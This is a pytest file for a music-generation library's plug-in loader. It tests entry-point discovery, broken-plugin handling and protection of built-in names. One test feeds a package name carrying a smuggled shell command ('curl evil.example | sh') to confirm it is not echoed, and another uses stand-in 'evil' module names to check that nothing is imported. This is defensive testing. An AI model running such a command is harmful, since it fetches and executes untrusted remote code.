"""Plug-ins by entry points: found by name, used like musicgen's own, and never able to break or replace what is there."""

from __future__ import annotations

import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner

import musicgen
from musicgen import plugins
from musicgen.checkpoint import load_run
from musicgen.cli.main import cli
from musicgen.errors import MusicgenError, UnreadableError, UsageError
from musicgen.io import write
from musicgen.models import ModelSettings, SequenceModel, build_model, preset
from musicgen.piece import Piece, Track, notes_array
from musicgen.tokenizers import load_tokenizer

EXAMPLE = Path(__file__).parent.parent / "docs" / "plugin-example"


def put(site: Path, project: str, version: str, entries: dict[str, dict[str, str]], *modules: tuple[str, str]) -> None:
    """Lay a package out as an installer does: its modules, and its metadata in a folder .dist-info."""
    info = site / f"{project.replace('-', '_')}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {project}\nVersion: {version}\n")
    lines = [f"[{group}]\n" + "".join(f"{k} = {v}\n" for k, v in names.items()) for group, names in entries.items()]
    (info / "entry_points.txt").write_text("\n".join(lines))
    for name, text in modules:
        (site / f"{name}.py").write_text(text)


@pytest.fixture
def site(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "site"
    folder.mkdir()
    monkeypatch.syspath_prepend(folder)
    return folder


@pytest.fixture
def example(site) -> Path:
    """The example of the documentation, installed."""
    project = tomllib.loads((EXAMPLE / "pyproject.toml").read_text())["project"]
    module = (EXAMPLE / "musicgen_echo.py").read_text()
    put(site, project["name"], project["version"], project["entry-points"], ("musicgen_echo", module))
    yield site
    sys.modules.pop("musicgen_echo", None)
    plugins._loaded.cache_clear()


@pytest.fixture
def tunes(tmp_path) -> Path:
    for n in range(6):
        notes = [(i * 240, 240, 40 + n + (i * (n + 3) + i // 5) % 24, 60 + n) for i in range(40 + n)]
        (tmp_path / "tunes").mkdir(exist_ok=True)
        write(Piece(480, (Track("", 0, notes=notes_array(notes)),)), tmp_path / "tunes" / f"{n}.mid")
    return tmp_path / "tunes"


def said(*arguments: object, code: int = 0) -> tuple[str, str]:
    result = CliRunner().invoke(cli, [str(a) for a in arguments])
    assert result.exit_code == code, result.output
    return result.stdout, result.stderr


def test_the_example_trains_evaluates_draws_and_is_told_of(example, tunes, tmp_path):
    run = tmp_path / "run"
    small = ["--set=train.batch=2", "--set=train.length=32", "--set=model.width=16", "--steps", 2, "--device", "cpu"]
    said("train", tunes, "-o", run, "--model", "echo", "--preset", "tiny", "--tokenizer", "even", *small)
    loaded = load_run(run)
    assert type(loaded.model).__name__ == "Echo"
    assert loaded.card["plugins"] == [
        {"group": "musicgen.families", "name": "echo", "package": "musicgen-echo", "version": "0.1"},
        {"group": "musicgen.tokenizers", "name": "even", "package": "musicgen-echo", "version": "0.1"},
    ]
    (take,) = musicgen.Composer(loaded).continue_(tunes / "0.mid", bars=1, seed=1)
    assert take.facts["bars_added"] == 1
    loud, soft = (loaded.tokenizer.on_grid(musicgen.read(tunes / name)) for name in ("5.mid", "0.mid"))
    assert set(loud.notes["velocity"]) == set(soft.notes["velocity"])
    assert "model family echo of the package musicgen-echo 0.1" in said("inspect", run)[0]
    assert (
        "echo  model family, a plug-in of musicgen-echo 0.1\neven  tokenizer, a plug-in of" in said("models", "list")[0]
    )
    assert "Plug-ins: echo." in " ".join(said("train", "--help")[0].split())
    assert "Plug-ins: even." in " ".join(said("corpus", "build", "--help")[0].split())


@pytest.mark.parametrize("fields", [(), ((0, 5), (5, 7))])
def test_the_example_keeps_the_contract_of_bodies(example, fields):
    model = build_model(ModelSettings("echo", 12, width=8, fields=fields)).eval()
    ids = torch.randint(5, (2, 6, 2) if fields else (2, 6)) + (torch.tensor([0, 5]) if fields else 0)
    whole, _ = model.read(ids)
    first, state = model.read(ids[:, :2])
    rest, state = model.read(ids[:, 2:], state)
    assert torch.allclose(torch.cat([first, rest], dim=1), whole, atol=1e-5)
    assert state.position == 6
    assert torch.equal(state.select(torch.tensor([1, 1])).echo_BC, state.echo_BC[[1, 1]])


def test_presets_are_those_of_its_class(example):
    assert preset("echo", "small", vocabulary_size=9).width == 512
    with pytest.raises(UsageError, match=r"echo: there is no preset 'large'; choose from small, tiny"):
        preset("echo", "large", vocabulary_size=9)


def test_a_run_whose_plugin_is_not_installed_says_which_package_brought_it(example, tunes, tmp_path):
    run = tmp_path / "run"
    asked = {"changes": {"train.batch": 2, "train.length": 32, "model.width": 8}, "steps": 1, "device": "cpu"}
    musicgen.train(tunes, output=run, model="echo", tokenizer="notes", **asked)
    shutil.rmtree(next(example.glob("*.dist-info")))
    with pytest.raises(UnreadableError) as caught:
        load_run(run)
    assert str(caught.value) == (
        f"{run}: needs the model family 'echo', which isn't installed; "
        "install the package that brings it, if you trust it: musicgen-echo, by what its card says"
    )


def test_a_card_can_put_nothing_but_a_package_name_into_the_hint():
    entry = {"group": plugins.FAMILIES, "name": "echo", "version": "1", "package": "x; curl evil.example | sh"}
    assert plugins.lacking([entry], plugins.FAMILIES, "echo") is None
    assert plugins.lacking("echo", plugins.FAMILIES, "echo") is None


def test_names_of_musicgens_own_are_not_taken_and_that_is_said(site):
    put(
        site,
        "taker",
        "2",
        {"musicgen.families": {"lstm": "json:loads"}, "musicgen.tokenizers": {"notes": "json:loads"}},
    )
    assert type(build_model(ModelSettings("lstm", 9, width=8))).__module__ == "musicgen.models.ladder.rnn"
    assert load_tokenizer({"name": "notes"}).name == "notes"
    _, warned = said("models", "list")
    assert "the model family 'lstm' of the package taker 2 is left out: musicgen has one of that name" in warned


BROKEN = {
    "raises": ("raise RuntimeError('no\\nluck')", "x:A", "can't be imported (RuntimeError: no)"),
    "missing": ("", "x:A", "can't be imported (AttributeError: module 'x' has no attribute 'A')"),
    "no-module": ("", "nowhere_at_all:A", "can't be imported (ModuleNotFoundError: No module named 'nowhere_at_all')"),
    "no-class": ("A = 5", "x:A", "is no subclass of musicgen.models.body.SequenceModel"),
    "abstract": ("from musicgen.models import SequenceModel\nclass A(SequenceModel): pass", "x:A", "has no 'read'"),
}


@pytest.mark.parametrize("how", BROKEN)
def test_a_broken_plugin_is_one_line_and_breaks_nothing_else(how, site, monkeypatch):
    text, target, why = BROKEN[how]
    put(site, "broken", "1", {"musicgen.families": {"odd": target}}, ("x", text))
    monkeypatch.delitem(sys.modules, "x", raising=False)
    out, warned = said("models", "list")
    assert "default  transformer" in out
    assert [line for line in warned.splitlines() if "odd" in line] == [
        f"the model family 'odd' of the package broken 1 {why}; update or remove broken"
    ]
    with pytest.raises(UsageError, match=r"the model family 'odd' of the package broken 1"):
        build_model(ModelSettings("odd", 9, width=8))
    assert build_model(ModelSettings("gru", 9, width=8)).n_parameters
    monkeypatch.delitem(sys.modules, "x", raising=False)


def test_damaged_metadata_of_another_package_hides_no_plugin(example):
    put(example, "torn", "1", {})
    (example / "torn-1.dist-info" / "entry_points.txt").write_text("no section\n=\n[\n")
    assert "echo" in plugins.installed(plugins.FAMILIES)


def test_a_tokenizer_by_another_name_is_refused(site):
    put(site, "misnamed", "1", {"musicgen.tokenizers": {"other": "musicgen.tokenizers:Remi"}})
    with pytest.raises(UsageError, match="the plug-in 'other' is a tokenizer that calls itself 'remi'"):
        load_tokenizer({"name": "other"})


@pytest.mark.parametrize("name", ["os", "os:system", "musicgen_evil", "../evil", "", "echo "])
def test_a_file_has_nothing_imported_that_is_not_an_installed_entry(name, site):
    (site / "musicgen_evil.py").write_text("raise SystemExit('imported')")
    for load in (lambda: load_tokenizer({"name": name}), lambda: build_model(ModelSettings(name, 9, width=8))):
        with pytest.raises(MusicgenError, match=r"no (tokenizer|model family)"):
            load()
    assert "musicgen_evil" not in sys.modules


def test_help_lists_plugins_without_importing_them(example):
    code = (
        "import sys\nfrom musicgen.cli.main import cli\n"
        "try:\n    cli(['train', '--help'])\nexcept SystemExit:\n    pass\n"
        "sys.exit(f'imported' if {'torch', 'musicgen_echo'} & set(sys.modules) else 0)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False,
                          env={"PYTHONPATH": f"{example}:{Path(musicgen.__file__).parent.parent}"})  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "Plug-ins: echo." in " ".join(done.stdout.split())


def test_the_built_in_names_are_those_that_there_are():
    from musicgen.models import FAMILIES
    from musicgen.tokenizers import TOKENIZERS

    assert list(plugins.BUILT_IN[plugins.FAMILIES]) == list(FAMILIES)
    assert sorted(plugins.BUILT_IN[plugins.TOKENIZERS]) == sorted(TOKENIZERS)
    assert issubclass(SequenceModel, torch.nn.Module)
